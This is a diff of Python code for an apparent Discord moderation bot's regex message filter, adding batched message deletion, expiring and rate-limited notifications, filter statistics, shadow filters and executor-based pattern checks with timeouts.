+        cutoff = datetime.utcnow() - timedelta(seconds=max_age)
+        removed = 0
+        size = 0
+
+        for key, window in list(self.items()):
+            window.expire(cutoff)
+
+            if window:
+                size += window.size
+            else:
+                del self[key]
+                removed += 1
+
+        while size > self.max_bytes and self:
+            key, window = self.popitem(last=False)
+            size -= window.size
+            self.evictions += 1
+            removed += 1
+
+        self.size = size
+        return removed
+
+
+class DeletionQueue:
+    """
+    Collects messages to delete per channel and deletes them together after a short delay.
+
+    Each channel's batch is sent with bulk deletes where Discord allows it (2 to 100 messages, none
+    older than 14 days), and one by one otherwise or if the bulk delete fails.
+    """
+    __slots__ = ['bot', 'delay', 'pending', 'tasks']
+
+    def __init__(self, bot, delay: float = DELETE_BATCH_DELAY):
+        self.bot = bot
+        self.delay = delay
+        self.pending = {}
+        self.tasks = {}
+
+    def add(self, messages: Iterable[Union[Message, CachedMessage]]):
+        for message in messages:
+            channel_id = message.channel.id
+            self.pending.setdefault(channel_id, OrderedDict())[message.id] = message
+
+            if channel_id not in self.tasks:
+                self.tasks[channel_id] = self.bot.loop.create_task(self.flush_later(channel_id))
+
+    async def flush_later(self, channel_id: str):
+        await asyncio.sleep(self.delay)
+        await self.flush(channel_id)
+
+    async def flush(self, channel_id: str):
+        self.tasks.pop(channel_id, None)
+        messages = list(self.pending.pop(channel_id, {}).values())
+        cutoff = datetime.utcnow() - timedelta(seconds=BULK_DELETE_MAX_AGE)
+        singles = [m for m in messages if m.timestamp <= cutoff]
+        bulk = [m for m in messages if m.timestamp > cutoff]
+
+        for i in range(0, len(bulk), BULK_DELETE_MAX_NUM):
+            chunk = bulk[i:i + BULK_DELETE_MAX_NUM]
+
+            if len(chunk) < 2:
+                singles.extend(chunk)
+                continue
+
+            try:
+                await self.bot.delete_messages(chunk)
+            except (discord.ClientException, discord.HTTPException):
+                logger.exception('bulk deleting %i messages in channel %s failed, deleting them one by one'
+                                 % (len(chunk), channel_id))
+                singles.extend(chunk)
+
+        for message in singles:
+            try:
+                await self.bot.delete_message(message)
+            except discord.NotFound:
+                pass
+            except discord.HTTPException:
+                logger.exception('error deleting message %s/%s' % (channel_id, message.id))
+
+    async def flush_all(self):
+        for task in self.tasks.values():
+            task.cancel()
+
+        for channel_id in list(self.pending):
+            await self.flush(channel_id)
+
+
+class FlashExpiry:
+    """
+    Deletes flash messages when their time is up.
+
+    Messages are placed in a timer wheel with one slot per second. A single task ticks through it while
+    any are waiting, and hands the due ones to a DeletionQueue, so expiring messages in the same channel
+    are also deleted together.
+    """
+    __slots__ = ['bot', 'deletions', 'slots', 'position', 'count', 'task']
+
+    def __init__(self, bot, deletions: DeletionQueue):
+        self.bot = bot
+        self.deletions = deletions
+        self.slots = [[] for _ in range(FLASH_MAX_SEC + 2)]
+        self.position = 0
+        self.count = 0
+        self.task = None
+
+    def add(self, message: Message, seconds: int):
+        seconds = max(1, min(seconds, len(self.slots) - 1))
+        self.slots[(self.position + seconds) % len(self.slots)].append(message)
+        self.count += 1
+
+        if self.task is None or self.task.done():
+            self.task = self.bot.loop.create_task(self.run())
+
+    async def run(self):
+        next_tick = self.bot.loop.time()
+
+        while self.count:
+            next_tick += 1
+            await asyncio.sleep(max(0, next_tick - self.bot.loop.time()))
+            self.position = (self.position + 1) % len(self.slots)
+            due = self.slots[self.position]
+            self.slots[self.position] = []
+            self.count -= len(due)
+            self.deletions.add(due)
+
+    def expire_all(self):
+        if self.task:
+            self.task.cancel()
+
+        for slot in self.slots:
+            self.deletions.add(slot)
+            slot.clear()
+
+        self.count = 0
+
+
+class FlashQueue:
+    """
+    Coalesces and rate limits flash messages.
+
+    Hits are collected per destination (channel, or author for DMs) for FLASH_COALESCE_DELAY seconds, then
+    one notification is sent per filter and author, saying how many messages were removed. Each destination
+    gets at most `rate` notifications per FLASH_RATE_PERIOD; groups over the limit share one summary.
+    """
+    __slots__ = ['bot', 'expiry', 'pending', 'tasks', 'sent']
+
+    def __init__(self, bot, expiry: FlashExpiry):
+        self.bot = bot
+        self.expiry = expiry
+        self.pending = {}
+        self.tasks = {}
+        self.sent = {}
+
+    def add(self, filter_hit: 'Filter', destination, data: dict, rate: int):
+        groups = self.pending.setdefault(destination.id, OrderedDict())
+        key = (filter_hit.name, data['author'].id)
 
-        for entry in pending:
-            name, deps = entry
-            deps.difference_update(emitted)  # remove deps we emitted last pass
+        if key in groups:
+            groups[key][3] += len(data['messages']) or 1
+        else:
+            groups[key] = [filter_hit, destination, data, len(data['messages']) or 1, rate]
 
-            if deps:  # still has deps? recheck during next pass
-                next_pending.append(entry)
-            else:  # no more deps? time to emit
-                yield name
-                emitted.append(name)  # <-- not required, but helps preserve original ordering
-                next_emitted.append(name)  # remember what we emitted for difference_update() in next pass
+        if destination.id not in self.tasks:
+            self.tasks[destination.id] = self.bot.loop.create_task(self.flush_later(destination.id))
 
-        if not next_emitted:  # all entries have unmet dependencies, one of two things is wrong...
-            raise ValueError("cyclic or missing dependency detected: %r" % (next_pending,))
+    async def flush_later(self, destination_id: str):
+        await asyncio.sleep(FLASH_COALESCE_DELAY)
+        await self.flush(destination_id)
 
-        pending = next_pending
-        emitted = next_emitted
+    async def flush(self, destination_id: str):
+        self.tasks.pop(destination_id, None)
+        groups = list(self.pending.pop(destination_id, {}).values())
 
+        if not groups:
+            return
 
-class POSITION(Enum):
-    START = 'start'
-    FULL = 'full'
-    ANYWHERE = 'anywhere'
+        now = self.bot.loop.time()
+        sent = self.sent.setdefault(destination_id, deque())
+        rate = groups[-1][4]
 
+        while sent and sent[0] <= now - FLASH_RATE_PERIOD:
+            sent.popleft()
 
-#  -> Optional[Type[DiscordUniObj]], but it breaks 3.5
-def type_from_name(list_name: str):
-    for k in DATACLASSES_BY_NAME:
-        k = k.lower()
-        if list_name.startswith(k):
-            return DATACLASSES_BY_NAME[k]
+        if rate and len(groups) > rate - len(sent):
+            allowed = max(0, rate - len(sent) - 1)  # leave room for the summary
+            groups, rest = groups[:allowed], groups[allowed:]
+        else:
+            rest = []
 
-    return None
+        for filter_hit, destination, data, count, _ in groups:
+            await self.send(destination, self.format(filter_hit, data, count), filter_hit)
+            sent.append(now)
 
+        if rest and len(sent) < rate:
+            destination = rest[0][1]
+            names = sorted({g[0].name for g in rest})
+            msg = '%i more message(s) were removed by %s.' % (sum(g[3] for g in rest), ', '.join(names))
+            await self.send(destination, msg, rest[0][0])
+            sent.append(now)
+        elif rest:
+            logger.debug('dropped %i notification(s) for %s over the rate limit' % (len(rest), destination_id))
 
-def flags_to_int(flag_chars):
-    flags = 0
+        if not sent:
+            del self.sent[destination_id]
 
-    for c in flag_chars:
-        flags |= getattr(re, c.upper(), 0)
+    @staticmethod
+    def format(filter_hit: 'Filter', data: dict, count: int) -> str:
+        suffix = ('\n(%i messages removed by %s)' % (count, filter_hit.name)) if count > 1 else ''
+        msg = filter_hit.flash_msg.format(**data) + suffix
 
-    return flags
+        # check if message is too long, if so then ellipsize match
+        if len(msg) > 2000 and data['match']:
+            data = dict(data, match=ellipsize(data['match'], by=len(msg) - 2000))
+            msg = filter_hit.flash_msg.format(**data) + suffix
 
+        return msg[:2000]
 
-class BoundedOrderedDict(OrderedDict):
-    __slots__ = ['_maxlen']
+    async def send(self, destination, msg: str, filter_hit: 'Filter'):
+        try:
+            msg = await self.bot.send_message(destination, msg)
+        except Exception:
+            logger.exception('error sending notification for filter %s to %s' % (filter_hit.name, destination.id))
+            return
 
-    def __init__(self, iterable: Sequence = (), maxlen=None):
-        self._maxlen = maxlen
-        super().__init__(iterable)
+        if filter_hit.flash_sec > 0 and not filter_hit.flash_dm:
+            self.expiry.add(msg, filter_hit.flash_sec)
 
-    @property
-    def maxlen(self):
-        return self._maxlen
+    def flush_all(self):
+        tasks = []
 
-    def __setitem__(self, key, value):
-        if not self.__contains__(key) and len(self) == self._maxlen:
-            self.popitem(last=False)
+        for destination_id, task in list(self.tasks.items()):
+            task.cancel()
+            tasks.append(self.bot.loop.create_task(self.flush(destination_id)))
 
-        super().__setitem__(key, value)
+        return tasks
 
 
 class FilterBase:
@@ -513,15 +1526,249 @@ class FilterList:
         )
 
 
+class FilterStats:
+    """
+    In-memory counters and timing information for a single filter
+
+    evaluations counts actual pattern runs. skips counts checks answered without running the pattern,
+    either by the literal prefilter or a FilterSet gate. wait_time is the executor overhead (queueing and
+    transfer) of the jobs the filter ran in.
+
+    shadow_hits counts messages a shadow filter would have acted on, and samples keeps the most recent
+    of them as dicts with time, channel, author, message and excerpt keys.
+    """
+    __slots__ = ['times', 'timeouts', 'evaluations', 'skips', 'hits', 'total_time', 'wait_time', 'shadow_hits',
+                 'samples']
+
+    def __init__(self, **data):
+        self.times = deque(maxlen=FILTER_TIMING_SAMPLES)
+        self.timeouts = data.get('timeouts', 0)
+        self.evaluations = data.get('evaluations', 0)
+        self.skips = data.get('skips', 0)
+        self.hits = data.get('hits', 0)
+        self.total_time = data.get('total_time', 0.0)
+        self.wait_time = data.get('wait_time', 0.0)
+        self.shadow_hits = data.get('shadow_hits', 0)
+        self.samples = deque(data.get('samples', []), maxlen=SHADOW_SAMPLES)
+
+    def to_json(self) -> dict:
+        return {
+            'timeouts'    : self.timeouts,
+            'evaluations' : self.evaluations,
+            'skips'       : self.skips,
+            'hits'        : self.hits,
+            'total_time'  : self.total_time,
+            'wait_time'   : self.wait_time,
+            'shadow_hits' : self.shadow_hits,
+            'samples'     : list(self.samples),
+            'p50'         : self.percentile(0.5),
+            'p99'         : self.percentile(0.99)
+        }
+
+    def percentile(self, p: float) -> Optional[float]:
+        if not self.times:
+            return None
+
+        ordered = sorted(self.times)
+        return ordered[min(len(ordered) - 1, int(p * len(ordered)))]
+
+
+class FilterSet:
+    """
+    Compiled form of a server's enabled filters, built once per configuration change.
+
+    Single-message filters that share content preprocessing, flags and position are merged into one
+    alternation. check_filterset uses it as a gate: if the combined pattern doesn't match, none of the
+    group's members can, so they are skipped without being run one by one.
+
+    It also indexes each filter's required literals, so that filters which can't possibly match are
+    ruled out on the event loop before anything is sent to the executor, and lists the patterns
+    (as safety keys, see ReCensor.is_inline_safe) each filter's check runs.
+
+    Multi-message blacklist filters with a bounded match width are listed in resumable with their
+    compiled pattern and width, so a MessageWindow only has to rescan the end of its joined content.
+    """
+    __slots__ = ['version', 'predicates', 'groups', 'members', 'literals', 'resumable', 'safety_keys']
+
+    _versions = itertools.count(1)
+
+    def __init__(self, filters: Iterable['Filter'], server_asciify: bool):
+        self.version = next(self._versions)
+        self.predicates = {}
+        self.groups = {}
+        self.members = {}
+        self.literals = {}
+        self.resumable = {}
+        self.safety_keys = {}
+
+        grouped = defaultdict(list)
+
+        for f in filters:
+            predicate = f.predicate
+
+            if not predicate:
+                continue
+
+            if f.multi_msg and f.mode:  # multi-message whitelists need every match
+                predicate = partial(check_match_iter, f.compiled.finditer)
+            elif f.multi_msg and f.position == POSITION.ANYWHERE:
+                width = max_match_width(f.compiled)
+
+                if width is not None:
+                    self.resumable[f.name] = (f.compiled, width)
+
+            self.predicates[f.name] = predicate
+            self.safety_keys[f.name] = ((f.pattern, f.flags, f.position),)
+
+            if f.literals:
+                self.literals[f.name] = f.literals
+
+            if f.multi_msg or 'X' in f.flags or UNMERGEABLE_RE.search(f.pattern):
+                continue
+
+            asciify = f.asciify or (f.asciify is None and server_asciify)
+            grouped[(asciify, f.attachment_header, f.flags, f.position)].append(f)
+
+        for group_key, group in grouped.items():
+            if len(group) < 2:
+                continue
+
+            combined = '|'.join('(?:%s)' % f.pattern for f in group)
+
+            try:
+                # servers subscribed to the same libraries often end up with the same gates
+                self.groups[group_key] = SharedMatch(combined, flags_to_int(group_key[2]), group_key[3])
+            except re.error:
+                logger.debug('unable to merge %i filters with key %r' % (len(group), group_key))
+                continue
+
+            for f in group:
+                self.members[f.name] = group_key
+                self.safety_keys[f.name] += ((combined, group_key[2], group_key[3]),)
+
+    def __getstate__(self):
+        # the literal index and safety keys are only used in the main process
+        return self.version, self.predicates, self.groups, self.members, self.resumable
+
+    def __setstate__(self, state):
+        self.version, self.predicates, self.groups, self.members, self.resumable = state
+        self.literals = {}
+        self.safety_keys = {}
+
+    def rule_out(self, inputs: Iterable[Tuple[str, Hashable, bool]], contents: dict) -> Set[str]:
+        """
+        Returns the names of the filters in `inputs` that can't match, because none of their required
+        literals appear in their content. Takes the same arguments as check_filterset.
+        """
+        ruled_out = set()
+        folded = {}
+        found = {}
+
+        for name, content_key, _ in inputs:
+            if name not in self.literals:
+                continue
+
+            fold, literals = self.literals[name]
+            string = contents[content_key]
+
+            if fold:
+                if content_key not in folded:
+                    folded[content_key] = fold_string(string)
+
+                string = folded[content_key]
+
+            for literal in literals:
+                key = (content_key, fold, literal)
+
+                if key not in found:
+                    found[key] = literal in string
+
+                if found[key]:
+                    break
+            else:
+                ruled_out.add(name)
+
+        return ruled_out
+
+
+class FilterLibrary:
+    """
+    A named set of filter templates, shared by the servers subscribed to it.
+
+    Subscribing adds each template to the server as a disabled filter named library.entry. Everything
+    but the pattern and flags can then be changed per server (enabled, mode, lists and so on), while the
+    compiled pattern is shared between all subscribers. Changes to a template's pattern or flags are
+    applied to every subscriber; changing them in a server detaches that server's filter instead.
+    """
+    __slots__ = ['name', 'templates']
+
+    # Filter settings that aren't copied into a template
+    LOCAL_KEYS = {'enabled', 'shadow', 'library', 'channels_list', 'roles_list', 'channels_list_link',
+                  'roles_list_link'}
+
+    def __init__(self, name: str, templates: Optional[dict] = None):
+        self.name = name
+        self.templates = {} if templates is None else templates
+
+    def filter_name(self, entry: str) -> str:
+        return '%s.%s' % (self.name, entry)
+
+    def set_template(self, entry: str, _filter: 'Filter'):
+        self.templates[entry] = {k: v for k, v in _filter.to_json().items() if k not in self.LOCAL_KEYS}
+
+    def to_json(self) -> dict:
+        return self.templates
+
+
+class EligibilityIndex:
+    """
+    Which of a server's active filters pass their channel and role lists, cached by channel ID and by
+    a member's role IDs (in order, since check_id_iter stops at the first decisive role).
+
+    It is built lazily and thrown away by ServerConfig whenever a list, link or the filter order changes.
+    """
+    __slots__ = ['filters', 'channels', 'roles']
+
+    def __init__(self, filters: Iterable['Filter']):
+        self.filters = tuple(filters)
+        self.channels = {}
+        self.roles = BoundedOrderedDict(maxlen=ELIGIBILITY_CACHE_SIZE)
+
+    def for_channel(self, channel: discord.Channel) -> FrozenSet['Filter']:
+        eligible = self.channels.get(channel.id)
+
+        if eligible is None:
+            eligible = frozenset(f for f in self.filters if f.channels_list.check(channel) is not False)
+            self.channels[channel.id] = eligible
+
+        return eligible
+
+    def for_roles(self, roles: Iterable[discord.Role]) -> FrozenSet['Filter']:
+        key = tuple(r.id for r in roles)
+        eligible = self.roles.get(key)
+
+        if eligible is None:
+            eligible = frozenset(f for f in self.filters if f.roles_list.check_id_iter(key) is not False)
+            self.roles[key] = eligible
+
+        return eligible
+
+
 class ServerConfig(FilterBase):
-    __slots__ = ['cog', 'asciify', 'priv_exempt', 'roles_list', 'channels_list', 'filters', 'order']
+    __slots__ = ['cog', 'server_id', 'asciify', 'priv_exempt', 'roles_list', 'channels_list', 'filters', 'order',
+                 'libraries', 'flash_rate', '_filterset', '_eligibility']
 
-    def __init__(self, cog, **data):
+    def __init__(self, cog, server_id: str, **data):
         self.cog = cog
+        self.server_id = server_id
         self.name = 'SERVER'
+        self._filterset = None
+        self._eligibility = None
 
         self.asciify = data.get('asciify', False)
         self.priv_exempt = data.get('priv_exempt', True)
+        self.libraries = set(data.get('libraries', []))
+        self.flash_rate = data.get('flash_rate', FLASH_RATE_DEFAULT)
         self.filters = {}
         self.order = []
 
@@ -555,8 +1802,37 @@ class ServerConfig(FilterBase):
         self.update_order()
 
     def update_order(self):
-        filters = (f for f in self.filters.values() if f.enabled)
+        filters = (f for f in self.filters.values() if f.active)
         self.order[:] = sorted(filters, key=lambda f: f.filter_priority, reverse=True)
+        self.invalidate()
+
+    def invalidate(self):
+        """
+        Discards compiled state derived from the filters. Must be called after changing anything that
+        affects how a filter is matched (pattern, flags, position, asciify, attachment header, multi-msg).
+        """
+        self._filterset = None
+        self._eligibility = None
+
+    def invalidate_lists(self):
+        """
+        Discards cached channel and role list results. Must be called after changing any list or link.
+        """
+        self._eligibility = None
+
+    @property
+    def eligibility(self) -> EligibilityIndex:
+        if self._eligibility is None:
+            self._eligibility = EligibilityIndex(self.order)
+
+        return self._eligibility
+
+    @property
+    def filterset(self) -> FilterSet:
+        if self._filterset is None:
+            self._filterset = FilterSet(self.order, self.asciify)
+
+        return self._filterset
 
     def make_link(self, link_owner, target_owner, list_name):
         dep_graph = {}
@@ -579,6 +1855,7 @@ class ServerConfig(FilterBase):
             else:
                 self.filters[name].links.pop(list_name, None)
 
+        self.invalidate_lists()
         assert getattr(link_owner, list_name) is getattr(target_owner, list_name)
         return getattr(target_owner, list_name)
 
@@ -616,6 +1893,7 @@ class ServerConfig(FilterBase):
                 else:
                     self.filters[name].set_list(list_name, new_list_data=newlist_data)
 
+        self.invalidate_lists()
         return getattr(link_owner, list_name)
 
     def get_filter(self, _filter: Union[str, 'Filter'], check=False):
@@ -646,11 +1924,29 @@ class ServerConfig(FilterBase):
 
         self.filters[name] = f = Filter(self, name=name, **data)
 
-        if f.enabled:
+        if f.active:
             self.update_order()
 
         return f
 
+    def add_library_filter(self, library: FilterLibrary, entry: str, enabled: bool = False) -> Optional['Filter']:
+        """
+        Adds a filter following one of a library's templates, unless there already is one.
+        Returns the new filter, or None if it already existed.
+        """
+        name = library.filter_name(entry)
+        existing = self.get_filter(name)
+
+        if existing and existing.library == (library.name, entry):
+            return None
+        elif existing:
+            raise ValueError("filter %s already exists" % name)
+
+        return self.add_filter(name, library=(library.name, entry), enabled=enabled, **library.templates[entry])
+
+    def library_filters(self, library_name: str) -> List['Filter']:
+        return [f for f in self.filters.values() if f.library and f.library[0] == library_name]
+
     def rename_filter(self, _filter: Union[str, 'Filter'], new_name: str):
         _filter = self.get_filter(_filter, check=True)
 
@@ -664,6 +1960,7 @@ class ServerConfig(FilterBase):
 
         self.filters[new_name] = self.filters.pop(_filter.name)
         _filter.name = new_name
+        self.invalidate()
         return _filter
 
     def copy_filter(self, _filter: Union[str, 'Filter'], new_name: str, link=False, **kwargs):
@@ -704,19 +2001,165 @@ class ServerConfig(FilterBase):
 
         self.filters.pop(_filter.name)
 
-        if _filter.enabled:
+        if _filter.active:
             self.update_order()
 
         return True
 
-    async def check_message(self, message: Message, list_cache: dict = None
-                            ) -> Tuple[Optional["Filter"], bool, Optional[str]]:
+    async def run_checks(self, checks: Sequence[Tuple[str, Hashable, bool]], contents: dict,
+                         offsets: Optional[dict] = None) -> List[Union[dict, List[dict]]]:
         """
-        Return the matched filter (or None if no match), a boolean indicating whether to
-        delete `message`, and the substring of the match (None if no match or whitelist).
+        Runs (name, content key, stop_on_match) checks against this server's FilterSet and returns the
+        results in order, like check_filterset.
+
+        Filters ruled out by their literals get an empty result without being run. Short contents are
+        checked inline if every pattern involved passed the stress test; everything else goes to the
+        executor, which only receives the FilterSet when the worker doesn't already have the current
+        version. offsets is passed on to check_filterset.
         """
-        content_cache = {}
-        checks = []
+        filterset = self.filterset
+        ruled_out = filterset.rule_out(checks, contents)
+        pending = [c for c in checks if c[0] not in ruled_out]
+
+        for name in ruled_out:
+            if name in self.filters:
+                self.filters[name].stats.skips += 1
+
+        # Nothing on the event loop can be interrupted, so only proven patterns run there. Every pattern
+        # is looked up (not just up to the first unproven one), so that all of them get tested.
+        proven = [self.cog.is_inline_safe(k) for c in pending for k in filterset.safety_keys[c[0]]]
+        inline = all(proven) and all(len(contents[c[1]]) <= INLINE_CHECK_MAX_LEN
+                                     and not self.filters[c[0]].stats.timeouts for c in pending)
+        timeout = FILTER_TIME_BUDGET * (len(pending) + len(filterset.groups)) + EXECUTOR_GRACE
+
+        wait_time = 0
+
+        if not pending:
+            results = []
+        elif inline:
+            results = check_filterset(filterset, pending, contents, offsets=offsets)
+        else:
+            try:
+                started = time.perf_counter()
+                task = partial(check_server, self.server_id, filterset.version, pending, contents,
+                               offsets=offsets)
+                ret = await self.cog.run_task(task, timeout=timeout)
+
+                if ret is None:
+                    task = partial(check_server, self.server_id, filterset.version, pending, contents,
+                                   filterset=filterset, offsets=offsets)
+                    ret = await self.cog.run_task(task, timeout=timeout)
+
+                worker_time, results = ret
+                wait_time = max(0, time.perf_counter() - started - worker_time)
+            except (asyncio.TimeoutError, BrokenProcessPool):
+                logger.error('executor job for filters %s in server %s did not complete, treating as no match'
+                             % (', '.join(c[0] for c in pending), self.server_id))
+                results = []
+
+        self.record_results(pending, results, wait_time)
+        return merge_ruled_out(checks, ruled_out, results)
+
+    async def run_batch(self, jobs: Sequence[Tuple[Sequence[Tuple[str, Hashable, bool]], dict]]
+                        ) -> List[List[Union[dict, List[dict]]]]:
+        """
+        Runs many (checks, contents) jobs, like run_checks, in a single executor job.
+
+        Filter statistics aren't updated, since this is meant for checks that don't act on anything.
+        Raises asyncio.TimeoutError if the job doesn't complete.
+        """
+        filterset = self.filterset
+        ruled_out = [filterset.rule_out(checks, contents) for checks, contents in jobs]
+        pending = [([c for c in checks if c[0] not in r], contents) for (checks, contents), r in zip(jobs, ruled_out)]
+        timeout = EXECUTOR_GRACE + FILTER_TIME_BUDGET * sum(len(checks) + len(filterset.groups)
+                                                            for checks, _ in pending)
+
+        task = partial(check_server_batch, self.server_id, filterset.version, pending)
+        results = await self.cog.run_task(task, timeout=timeout)
+
+        if results is None:
+            task = partial(check_server_batch, self.server_id, filterset.version, pending, filterset=filterset)
+            results = await self.cog.run_task(task, timeout=timeout)
+
+        return [merge_ruled_out(checks, r, res) for (checks, _), r, res in zip(jobs, ruled_out, results)]
+
+    def record_results(self, checks: Sequence[Tuple[str, Hashable, bool]],
+                       results: Sequence[Union[dict, List[dict]]], wait_time: float = 0):
+        """
+        Updates filter statistics from check_filterset inputs and results, disabling filters that keep timing out.
+
+        Results skipped by a gate count as skips. wait_time is the executor overhead of the job, and is split
+        evenly between the filters that actually ran in it.
+        """
+        disabled = []
+        evaluated = []
+
+        for (name, _, _), ret in zip(checks, results):
+            f = self.filters.get(name)
+
+            if not f:
+                continue
+
+            if type(ret) is list:
+                elapsed = sum(r.get('time', 0) for r in ret)
+                hit = any(r.get('match') for r in ret)
+                timed_out = isinstance(ret[-1].get('exception'), FilterTimeout)
+            elif 'time' in ret:
+                elapsed = ret['time']
+                hit = bool(ret.get('match'))
+                timed_out = isinstance(ret.get('exception'), FilterTimeout)
+            else:  # skipped by a gate
+                f.stats.skips += 1
+                continue
+
+            evaluated.append(f)
+            f.stats.evaluations += 1
+            f.stats.hits += hit
+            f.stats.total_time += elapsed
+            f.stats.times.append(elapsed)
+
+            if timed_out:
+                f.stats.timeouts += 1
+                logger.warning('filter %s in server %s exceeded its time budget (%i/%i)'
+                               % (name, self.server_id, f.stats.timeouts, FILTER_TIMEOUT_STRIKES))
+
+                if f.stats.timeouts >= FILTER_TIMEOUT_STRIKES and f.active:
+                    f.enabled = f.shadow = False
+                    disabled.append(f)
+
+        for f in evaluated:
+            f.stats.wait_time += wait_time / len(evaluated)
+
+        if disabled:
+            logger.warning('disabled filters in server %s for repeatedly exceeding the time budget: %s'
+                           % (self.server_id, ', '.join(f.name for f in disabled)))
+            self.update_order()
+            self.cog.save(self.server_id)
+
+    def record_shadow(self, _filter: 'Filter', message: Message, excerpt: str):
+        """
+        Counts a message that a shadow filter would have acted on, and keeps it as a sample
+        """
+        _filter.stats.shadow_hits += 1
+        _filter.stats.samples.append({
+            'time'    : message.timestamp.isoformat(),
+            'channel' : message.channel.id,
+            'author'  : message.author.id,
+            'message' : message.id,
+            'excerpt' : ellipsize(excerpt or '', to_length=SHADOW_EXCERPT_LENGTH)
+        })
+
+    def message_checks(self, message: Message, list_cache: dict = None
+                       ) -> Tuple[List['Filter'], List[Tuple[str, Hashable, bool]], dict]:
+        """
+        Returns the single-message filters to run on `message`, their checks for run_checks in the same
+        order and the contents the checks refer to.
+
+        Shadow filters go first and never stop the pass, so they're evaluated no matter where the real
+        ones stop.
+        """
+        contents = {}
+        shadowed = []
         checked = []
 
         if list_cache is None:
@@ -730,31 +2173,46 @@ class ServerConfig(FilterBase):
             asciify = f.asciify or (f.asciify is None and self.asciify)
             ck = (asciify, f.attachment_header)
 
-            if ck in content_cache:
-                content = content_cache[ck]
-            else:
-                content = preprocess_msg(f, message)
+            if ck not in contents:
+                contents[ck] = preprocess_msg(message, f.attachment_header, asciify)
 
-                if asciify:
-                    content = asciify_string(content)
+            (shadowed if f.shadow else checked).append((f, ck))
 
-                content_cache[ck] = content
+        checks = [(f.name, ck, False) for f, ck in shadowed]
+        # short-circuit for override or blacklist mode
+        checks.extend((f.name, ck, f.override or not f.mode) for f, ck in checked)
+        return [f for f, _ in shadowed + checked], checks, contents
 
-            stop_on_match = f.override or not f.mode  # short-circuit for override or blacklist mode
-            checked.append(f)
-            checks.append((f.name, f.predicate, content, stop_on_match))
+    @staticmethod
+    def shadow_hits(filters: Sequence['Filter'], checks: Sequence[Tuple[str, Hashable, bool]],
+                    matches: Sequence[dict], contents: dict) -> Iterator[Tuple['Filter', str]]:
+        """
+        Yields the shadow filters among message_checks results that would have acted, with an excerpt
+        """
+        for f, (_, ck, _), match_dict in zip(filters, checks, matches):
+            if not f.shadow:
+                break
 
-        if not checks:
-            return None, False, None
+            matched = match_dict.get('match')
 
-        matches = await self.cog.bot.loop.run_in_executor(self.cog.executor, check_matches, checks)
+            if matched if not f.mode else not (matched or f.override):
+                yield f, matched or contents[ck]
+
+    @staticmethod
+    def message_outcome(filters: Sequence['Filter'], matches: Sequence[dict]
+                        ) -> Tuple[Optional['Filter'], bool, Optional[str]]:
+        """
+        Decides what to do from message_checks results, as described in check_message
+        """
         whites_checked = []
         match_white = False
 
-        for f, match_dict in zip(checked, matches):
+        for f, match_dict in zip(filters, matches):
             matched = match_dict.get('match')
 
-            if f.override and matched:  # override black or white
+            if f.shadow:
+                continue
+            elif f.override and matched:  # override black or white
                 return f, not f.mode, (None if f.mode else matched)
             elif whites_checked and not f.mode and not match_white:
                 white_hit = whites_checked[0] if len(whites_checked) == 1 else None
@@ -772,6 +2230,24 @@ class ServerConfig(FilterBase):
 
         return None, False, None
 
+    async def check_message(self, message: Message, list_cache: dict = None
+                            ) -> Tuple[Optional["Filter"], bool, Optional[str]]:
+        """
+        Return the matched filter (or None if no match), a boolean indicating whether to
+        delete `message`, and the substring of the match (None if no match or whitelist).
+        """
+        filters, checks, contents = self.message_checks(message, list_cache)
+
+        if not checks:
+            return None, False, None
+
+        matches = await self.run_checks(checks, contents)
+
+        for f, excerpt in self.shadow_hits(filters, checks, matches, contents):
+            self.record_shadow(f, message, excerpt)
+
+        return self.message_outcome(filters, matches)
+
     async def debug_message(self, message: Message) -> Tuple[List[Tuple[str, str, Optional[str]]],
                                                              Optional[Tuple[str, bool]]]:
         """
@@ -800,16 +2276,19 @@ class ServerConfig(FilterBase):
             if ck in content_cache:
                 content = content_cache[ck]
             else:
-                content = preprocess_msg(f, message)
-
-                if asciify:
-                    content = asciify_string(content)
-
-                content_cache[ck] = content
+                content = content_cache[ck] = preprocess_msg(message, f.attachment_header, asciify)
 
-            match = await self.cog.bot.loop.run_in_executor(self.cog.executor, f.predicate, content)
+            rets = await self.cog.check_filter(f, content)
+            spans = [r['span'] for r in rets if 'span' in r]
+            match = (spans[0][0], spans[-1][1]) if spans else None
+            exception = next((r['exception'] for r in rets if 'exception' in r), None)
 
-            if f.override and match:  # override black or white
+            if exception is not None:
+                results.append((f.name, 'error (%s)' % exception.__class__.__name__, None))
+                continue
+            elif f.shadow:  # reported, but never part of the action
+                result = 'shadow (%s)' % ('hit' if bool(match) else 'miss'), match and content[match[0]:match[1]]
+            elif f.override and match:  # override black or white
                 if action is None:
                     action = (f.name, not f.mode)
 
@@ -838,25 +2317,46 @@ class ServerConfig(FilterBase):
 
         return results, action
 
-    async def check_sequence(self, messages: Sequence[Message],
+    async def check_sequence(self, messages: Union[MessageWindow, Iterable[Message]],
                              list_cache: Optional[dict] = None
                              ) -> Tuple[Optional["Filter"], Set[Message], Optional[str]]:
         """
         Return the matched filter (or None if no match), a set of messages that should be deleted, and
         the matching span from the sequence `messages` (None if no match or whitelist).
+
+        If `messages` is a MessageWindow, its joined contents are reused and resumable filters only
+        search the part that could hold a new match.
         """
         joined_cache = {}
         content_cache = {}
+        snapshots = {}
+        offsets = {}
         checks = []
         checked = []
+        shadow_checks = []
+        shadowed = []
 
-        first_msg = next(iter(messages))
+        if isinstance(messages, MessageWindow):
+            window = messages
+            messages = list(window.values())
+        else:
+            window = None
+            messages = list(messages)
 
         if not messages:
             return None, set(), None
         elif list_cache is None:
             list_cache = {}
 
+        first_msg = messages[0]
+        filterset = self.filterset
+
+        if window is not None and window.version != filterset.version:
+            for entry in window.joins.values():
+                entry.offsets.clear()
+
+            window.version = filterset.version
+
         for f in self.order:
             if not (f.multi_msg and f.check_meta(first_msg, list_cache) and f.predicate):
                 continue
@@ -866,6 +2366,12 @@ class ServerConfig(FilterBase):
 
             if jk in joined_cache:
                 content, indices = joined_cache[jk]
+            elif window is not None:
+                entry = window.get_joined(jk, f.multi_msg_join, messages,
+                                         partial(preprocess_msg, attachment_header=f.attachment_header,
+                                                 asciify=asciify))
+                joined_cache[jk] = (content, indices) = entry.content, entry.indices
+                snapshots[jk] = entry, tuple(entry.ids)
             else:
                 strings = []
 
@@ -875,24 +2381,36 @@ class ServerConfig(FilterBase):
                     if ck in content_cache:
                         content = content_cache[ck]
                     else:
-                        content = preprocess_msg(f, message)
-
-                        if asciify:
-                            content = asciify_string(content)
-
-                        content_cache[ck] = content
+                        content = content_cache[ck] = preprocess_msg(message, f.attachment_header, asciify)
 
                     strings.append(content)
 
